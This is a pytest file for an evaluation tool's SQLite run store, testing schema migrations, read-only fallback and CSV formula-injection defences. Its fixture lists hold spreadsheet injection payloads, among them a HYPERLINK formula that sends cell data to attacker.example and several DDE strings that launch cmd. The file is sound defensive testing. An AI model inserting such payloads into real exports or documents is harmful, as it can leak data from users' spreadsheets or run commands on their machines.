"""The run database's safety: schema versions, migrations with a backup, read-only files, CSV injection."""

from __future__ import annotations

import csv
import hashlib
import io
import os
import re
import shutil
import sqlite3
import subprocess
import sys
from pathlib import Path

import pytest
from eval_helpers import make_trace, store_evaluation

from explorer import store_schema
from explorer.csvsafe import safe_cell
from explorer.errors import ExplorerError
from explorer.store import RunStore

ROOT = Path(__file__).resolve().parent.parent
INJECTIONS = ['=HYPERLINK("http://attacker.example/?leak="&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0",
              "+1+cmd|' /C notepad'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\uff1d1+1", "  =1+1"]


def _digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def _stored(path: Path) -> RunStore:
    store = RunStore(path)
    store_evaluation(store, "e", [make_trace("wo", "Paris", ["Paris"], qid="q1"),
                                  make_trace("sr", "Lyon", ["Paris"], qid="q1")])
    return store


def _set(path: Path, *sql: str) -> None:
    with sqlite3.connect(path) as conn:
        for statement in sql:
            conn.execute(statement)
    conn.close()


# -- schema versions ----------------------------------------------------------------------------------


@pytest.mark.parametrize("sql,version", [("PRAGMA user_version = 5", 5),
                                         ("UPDATE meta SET value = '9' WHERE key = 'schema_version'", 9)])
def test_a_newer_database_is_refused_and_left_untouched(tmp_db: Path, sql: str, version: int) -> None:
    _stored(tmp_db)
    _set(tmp_db, sql)
    before = _digest(tmp_db)
    for readonly in (None, True):
        with pytest.raises(ExplorerError, match=f"schema version {version}, written by a newer explorer") as info:
            RunStore(tmp_db, readonly=readonly)
        assert info.value.where == str(tmp_db) and "upgrade the explorer" in info.value.fix
    assert _digest(tmp_db) == before
    assert not Path(f"{tmp_db}.v4-backup").exists()


def _make_v1(path: Path) -> None:
    """The first schema as it was written: no live tables, user_version 0, meta schema_version 1."""
    _set(path, "DROP TABLE live_events", "DROP TABLE live_runs",
         "UPDATE meta SET value = '1' WHERE key = 'schema_version'", "PRAGMA user_version = 0")


def test_an_older_database_is_migrated_in_one_step_after_a_backup(tmp_db: Path) -> None:
    old = _stored(tmp_db)
    runs = {r["run_id"]: old.get(r["run_id"]).to_dict() for r in old.list()}
    _make_v1(tmp_db)
    store = RunStore(tmp_db)
    assert store.backup == Path(f"{tmp_db}.v1-backup")
    backup = RunStore(store.backup, readonly=True)  # the copy is the old file, readable as it was
    assert {r["run_id"] for r in backup.list()} == set(runs)
    with sqlite3.connect(store.backup) as conn:
        assert conn.execute("PRAGMA user_version").fetchone()[0] == 0
        assert "live_runs" not in {r[0] for r in conn.execute("SELECT name FROM sqlite_master")}
    conn.close()
    assert {r["run_id"]: store.get(r["run_id"]).to_dict() for r in store.list()} == runs
    with sqlite3.connect(tmp_db) as conn:
        assert conn.execute("PRAGMA user_version").fetchone()[0] == store_schema.SCHEMA_VERSION
        version = conn.execute("SELECT value FROM meta WHERE key = 'schema_version'").fetchone()[0]
        assert version == str(store_schema.SCHEMA_VERSION)
    conn.close()
    assert RunStore(tmp_db).backup is None  # up to date: no second backup


def test_a_failed_migration_changes_nothing_and_names_the_backup(tmp_db: Path, monkeypatch) -> None:
    _stored(tmp_db)
    _make_v1(tmp_db)

    def broken(conn: sqlite3.Connection) -> None:
        conn.execute("CREATE TABLE live_runs (run_id TEXT)")
        conn.execute("SELECT * FROM no_such_table")

    monkeypatch.setitem(store_schema.MIGRATIONS, 1, broken)
    failed = f"migrating it from schema version 1 to {store_schema.SCHEMA_VERSION} failed"
    with pytest.raises(ExplorerError, match=failed) as info:
        RunStore(tmp_db)
    assert "v1-backup" in info.value.what
    with sqlite3.connect(tmp_db) as conn:
        assert "live_runs" not in {r[0] for r in conn.execute("SELECT name FROM sqlite_master")}  # rolled back
        assert conn.execute("SELECT COUNT(*) FROM runs").fetchone()[0] == 2
    conn.close()


def test_no_backup_no_migration(tmp_db: Path, monkeypatch) -> None:
    _stored(tmp_db)
    _make_v1(tmp_db)
    before = _digest(tmp_db)
    monkeypatch.setattr(store_schema, "backup_path", lambda path, version: path.parent / "missing" / "copy")
    with pytest.raises(ExplorerError, match="cannot write a backup copy before migrating it"):
        RunStore(tmp_db)
    assert _digest(tmp_db) == before


def test_a_damaged_or_foreign_file_is_refused_with_the_reason(tmp_path: Path) -> None:
    lacking = tmp_path / "lacking.sqlite"
    _stored(lacking)
    _set(lacking, "ALTER TABLE runs DROP COLUMN wall_time")
    with pytest.raises(ExplorerError, match=r"the runs table lacks the column\(s\) wall_time"):
        RunStore(lacking)
    foreign = tmp_path / "foreign.sqlite"
    _set(foreign, "CREATE TABLE invoices (id INTEGER)")
    before = _digest(foreign)
    with pytest.raises(ExplorerError, match="belongs to another program"):
        RunStore(foreign)
    assert _digest(foreign) == before


# -- read-only files ----------------------------------------------------------------------------------


def test_readonly_mode_never_writes_and_refuses_writes_clearly(tmp_db: Path) -> None:
    store = _stored(tmp_db)
    run_id = store.list()[0]["run_id"]
    before = _digest(tmp_db)
    ro = RunStore(tmp_db, readonly=True)
    assert ro.readonly and len(ro.list()) == 2 and ro.get(run_id).run_id == run_id
    assert ro.evaluation("e")["runs"] == {"complete": 2} and "run_id" in ro.export_csv()
    for write in (lambda: ro.rename(run_id, "x"), lambda: ro.delete(run_id), lambda: ro.tag(run_id, "t"),
                  lambda: ro.start_evaluation("f", {})):
        with pytest.raises(ExplorerError, match="read-only") as info:
            write()
        assert info.value.fix
    assert _digest(tmp_db) == before
    with pytest.raises(ExplorerError, match="there is no run database here"):
        RunStore(tmp_db.parent / "nope.sqlite", readonly=True)
    assert not (tmp_db.parent / "nope.sqlite").exists()


READER = """
import sys
from explorer.store import RunStore
store = RunStore(sys.argv[1])
assert store.readonly, "the store should have fallen back to read-only"
rows = store.list()
trace = store.get(rows[0]["run_id"])
print(len(rows), trace.run_id == rows[0]["run_id"], len(store.export_csv().splitlines()))
"""


def _unprivileged() -> list[str]:
    """A prefix that runs a command without root's power to write anywhere (empty when not root)."""
    if os.geteuid() != 0:
        return []
    setpriv = shutil.which("setpriv")
    if setpriv is None:
        pytest.skip("running as root without setpriv: a read-only file cannot be made read-only for this test")
    return [setpriv, "--bounding-set=-dac_override,-dac_read_search", "--"]


def test_report_history_and_fetch_work_on_a_read_only_file_and_folder(tmp_path: Path) -> None:
    folder = tmp_path / "ro"
    folder.mkdir()
    db = folder / "runs.sqlite"
    _stored(db)
    out = tmp_path / "report"
    db.chmod(0o444)
    folder.chmod(0o555)
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    try:
        prefix = _unprivileged()
        probe = subprocess.run([*prefix, sys.executable, "-c", f"open({str(db)!r}, 'a')"], capture_output=True,
                               env=env)
        assert probe.returncode != 0, "the file is still writable: the test would prove nothing"
        reader = subprocess.run([*prefix, sys.executable, "-c", READER, str(db)], capture_output=True, text=True,
                                env=env, cwd=ROOT)
        assert reader.returncode == 0, reader.stderr[-2000:]
        assert reader.stdout.split() == ["2", "True", "3"]
        report = subprocess.run([*prefix, sys.executable, "-m", "explorer", "report", "--db", str(db), "--name", "e",
                                 "--out", str(out)], capture_output=True, text=True, env=env, cwd=ROOT)
        assert report.returncode == 0, report.stderr[-2000:]
        assert "readonly" not in report.stderr and (out / "evaluation.md").exists()
        run = subprocess.run([*prefix, sys.executable, "-m", "explorer", "run", "--method", "wo", "--question", "Q?",
                              "--db", str(db)], capture_output=True, text=True, env=env, cwd=ROOT)
        assert run.returncode == 1 and "the run database is read-only" in run.stderr and "Fix:" in run.stderr
        assert "Traceback" not in run.stderr and "Loading" not in run.stderr
    finally:
        folder.chmod(0o755)
        db.chmod(0o644)
    assert sorted(p.name for p in folder.iterdir()) == ["runs.sqlite"]  # nothing was created beside it


# -- CSV injection ------------------------------------------------------------------------------------


#: Texts that are harmless in a comma-separated reading but start a formula where a spreadsheet splits
#: on semicolons or tabs (or starts a row at a line break).
SPLIT_INJECTIONS = ["0x1;=1", ";@SUM(1)", "a\t=1+1", "x,=1;+2", "note\n-2+3+cmd|' /C calc'!A0", "ok; \uff1d1",
                    'x;"=1+13"', "x|=1"]


def _formula(cell: str) -> bool:
    """A cell a spreadsheet would run: it starts with a formula sign and is not just a number."""
    text = cell.lstrip(" ")
    return text.startswith(("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")) and \
        not re.fullmatch(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?", text.strip())


@pytest.mark.parametrize("payload", INJECTIONS)
def test_formula_cells_are_neutralised(payload: str) -> None:
    cell = safe_cell(payload)
    assert cell.startswith("'") and cell.replace("'", "") == payload.replace("'", "").replace("\r", "\n")


@pytest.mark.parametrize("payload", SPLIT_INJECTIONS)
def test_a_formula_after_a_separator_is_neutralised_too(payload: str) -> None:
    cell = safe_cell(payload)
    assert cell != payload and cell.replace("'", "") == payload.replace("'", "")
    assert not any(_formula(piece.lstrip('"')) for piece in re.split(r"[,;\t|\n]", cell)), cell


def test_a_carriage_return_cannot_start_a_row_of_its_own() -> None:
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerow([safe_cell("ok\r=1+1"), "next"])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [["ok\n'=1+1", "next"]]


@pytest.mark.parametrize("value", ["-0.5", "+3", "1e-6", "-12", "plain text", "a=b", "", 3, -2.5, None])
def test_numbers_and_plain_text_are_left_alone(value) -> None:
    assert safe_cell(value) == value


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_history_csv_holds_no_formula_in_a_comma_a_semicolon_or_a_tab_reading(tmp_db: Path) -> None:
    store = RunStore(tmp_db)
    for i, payload in enumerate(SPLIT_INJECTIONS):
        trace = make_trace("wo", payload, ["x"], qid=f"s{i}", question=payload)
        store.save(trace)
        store.rename(trace.run_id, payload)
        store.tag(trace.run_id, payload)
    text = store.export_csv()
    for delimiter in (",", ";", "\t", "|"):  # as a spreadsheet in another locale, or a paste, splits the same file
        cells = [cell for row in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in row]
        assert len(cells) > len(SPLIT_INJECTIONS)  # one cell or more per row
        assert not [c for c in cells if _formula(c)], delimiter
    comma = _cells(text)
    for payload in SPLIT_INJECTIONS:  # the comma reading still holds each text, marked where it had to be
        assert safe_cell(payload) in comma and payload not in comma


def test_history_csv_neutralises_every_payload_field(tmp_db: Path) -> None:
    store = RunStore(tmp_db)
    for i, payload in enumerate(INJECTIONS):
        trace = make_trace("wo", payload, ["x"], qid=f"q{i}", question=payload)
        store.save(trace)
        store.rename(trace.run_id, payload)
        store.tag(trace.run_id, payload.strip() or "x")
    cells = _cells(store.export_csv())
    for payload in INJECTIONS:
        assert payload not in cells, f"{payload!r} was written as it is"
        assert safe_cell(payload) in cells
    assert not [c for c in cells if c.lstrip(" ").startswith(("=", "+", "@", "\t", "\r", "\uff1d"))]
    rows = list(csv.DictReader(io.StringIO(store.export_csv())))
    assert {r["retrievals"] for r in rows} == {"0"} and {r["llm_calls"] for r in rows} == {"1"}  # numbers stay


def test_evaluation_csvs_neutralise_payloads(tmp_db: Path, tmp_path: Path) -> None:
    from explorer.eval.report import write_report

    store = RunStore(tmp_db)
    store_evaluation(store, "inj", [make_trace("wo", p, ["=1+1"], qid=f"q{i}") for i, p in enumerate(INJECTIONS)])
    store_evaluation(store, "inj", [make_trace("wo", p, ["=1+1"], qid=f"s{i}") for i, p in enumerate(SPLIT_INJECTIONS)])
    write_report(store, "inj", tmp_path)
    for name in ("questions.csv", "summary.csv"):
        with open(tmp_path / name, encoding="utf-8", newline="") as f:
            text = f.read()
        cells = _cells(text)
        assert not [c for c in cells if c.lstrip(" ").startswith(("=", "+", "@", "\t", "\r", "\uff1d"))], name
        assert not [c for c in cells if c.startswith("-") and not c[1:].replace(".", "").isdigit()], name
        semicolon = [cell for row in csv.reader(io.StringIO(text), delimiter=";") for cell in row]
        assert not [c for c in semicolon if _formula(c)], name
